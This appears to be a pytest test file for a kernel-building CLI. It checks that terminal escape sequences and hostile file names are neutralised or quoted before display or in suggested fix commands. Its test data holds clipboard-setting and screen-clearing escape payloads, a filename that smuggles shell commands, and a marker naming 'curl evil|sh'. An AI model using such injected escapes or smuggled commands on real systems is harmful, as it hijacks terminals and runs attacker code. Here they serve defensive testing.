"""Texts of strangers on the terminal, and in the commands that messages propose."""

from __future__ import annotations

import shlex
import subprocess
from pathlib import Path

import pytest

from kernel_builder.kernel.folder import Kernel
from kernel_builder.messages import names
from kernel_builder.messages.errors import KernelBuilderError
from kernel_builder.messages.terminal import clean
from tests.cli.command_line import Cli
from tests.cli.conftest import *  # noqa: F403  (fixtures)
from tests.cli.fake_kernel import FakeKernel, init_git
from tests.cli.test_build_terminal import run_on_terminal

# Sets the clipboard, clears the screen, writes the title, hides what follows.
ESCAPES = "\x1b]52;c;ZXZpbA==\x07\x1b[2J\x1b]0;title\x1b\\\x1b[8m\x9b2J\x08\r"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain\ttext\n", "plain\ttext\n"),
        ("\x1b[01;31m\x1b[Kerror:\x1b[m\x1b[K no", "\x1b[01;31merror:\x1b[m no"),
        ("\x1b[1mbold\x1b[0m", "\x1b[1mbold\x1b[0m"),
        ("\x1b[30mblack\x1b[8mhidden\x1b[38;5;0mx", "\\x1b[30mblack\\x1b[8mhidden\\x1b[38;5;0mx"),
        ("\x1b]52;c;AA\x07", "\\x1b]52;c;AA\\x07"),
        ("\x1b[2J\x1b[1;1H\x1bc\x9b2J", "\\x1b[2J\\x1b[1;1H\\x1bc\\x9b2J"),
        ("a\r\nb\rc", "a\nb\\rc"),
        ("a\x1b[\x1b[31m31m", "a\\x1b[\x1b[31m31m"),
        ("\u202egnp.exe\u2066", "\\u202egnp.exe\\u2066"),
        ("Größe → 日本", "Größe → 日本"),
    ],
)
def test_clean(text: str, shown: str) -> None:
    assert clean(text) == shown


def nix_text(text: str) -> str:
    """Return an expression for a text with escapes, which Nix's strings have no form for."""
    return f"builtins.fromJSON {shlex.quote(text)}"


@pytest.mark.attack("build", "escapes in a compiler's message", "shown as text")
@pytest.mark.parametrize("words", [(), ("-L",)])
def test_a_message_of_a_compiler(words: tuple[str, ...], cli: Cli, kernel: FakeKernel) -> None:
    said = r"k/a.cpp:3:5: error: \033]52;c;ZXZpbA==\007\033[2J"
    kernel.add("one", script=f"\"printf '{said}\\\\n'; exit 1\"".replace("\\0", "\\\\0"))
    shown = run_on_terminal(cli, "build", str(kernel.write()), *words)
    assert r"error: \x1b]52;c;ZXZpbA==\x07\x1b[2J" in shown
    assert "\x1b]52" not in shown
    assert "\x07" not in shown


@pytest.mark.attack("list-variants", "escapes in a flake's warning", "shown as text")
def test_a_warning_of_a_flake(cli: Cli, kernel: FakeKernel) -> None:
    kernel.add("one")
    folder = kernel.write()
    flake = folder / "flake.nix"
    start = (
        'outputs = _: builtins.trace (builtins.fromJSON "\\"\\\\u001b]52;c;AA\\\\u0007\\"") (let'
    )
    text = flake.read_text().replace("outputs = _: let", start, 1)
    flake.write_text(text.rstrip().removesuffix("}").rstrip().removesuffix(";") + ");\n}\n")
    shown = run_on_terminal(cli, "list-variants", str(folder))
    assert "52;c;AA" in shown
    assert "\x1b]52" not in shown
    assert "\x07" not in shown


@pytest.mark.attack("check-config", "escapes in a file's name", "shown as text")
def test_a_name_of_a_file(cli: Cli) -> None:
    folder = cli.folder / f"a{ESCAPES}"
    folder.mkdir()
    shown = run_on_terminal(cli, "check-config", str(folder))
    assert "is not a kernel" in shown
    assert not {"\x07", "\x1b]", "\x9b", "\x08"} & {
        shown[n : n + m] for n in range(len(shown)) for m in (1, 2)
    }


@pytest.mark.attack(
    "list-variants", "a file named x;curl evil|sh;.cpp in a proposed command", "quoted"
)
def test_a_proposed_command(kernel: FakeKernel, tmp_path: Path) -> None:
    name = f"x;touch {tmp_path.name};$(touch y).nix"
    kernel.add("one")
    folder = kernel.write()
    init_git(folder, "flake.nix", "build.toml", "variants.nix")
    (folder / name).write_text("1")
    flake = folder / "flake.nix"
    expression = f'import (./. + "/{name.replace("$", chr(92) + "$")}")'
    flake.write_text(
        flake.read_text()
        .replace("outputs = _: let", f"outputs = _: let n = {expression};", 1)
        .replace("inherit bundleOf", "inherit n bundleOf")
    )
    with pytest.raises(KernelBuilderError) as error:
        Kernel(folder).evaluate("n")
    (problem,) = error.value.problems
    assert shlex.split(problem.fix) == ["git", "add", "-N", name]
    subprocess.run(["sh", "-c", problem.fix], cwd=folder, check=True)
    assert sorted(
        path.name for path in folder.iterdir() if "touch" not in path.name and "." in path.name[1:]
    ) == ["build.toml", "flake.nix", "variants.nix"]


@pytest.mark.parametrize("words", [["a b"], ["it's"], ["$(x)", "`y`"], ["-x", "a\nb"], [""]])
def test_quoting(words: list[str]) -> None:
    argv = ["bash", "-c", names.join(["printf", "%s\\0", *words])]
    done = subprocess.run(argv, capture_output=True, text=True, check=True)
    assert done.stdout.split("\0")[:-1] == words
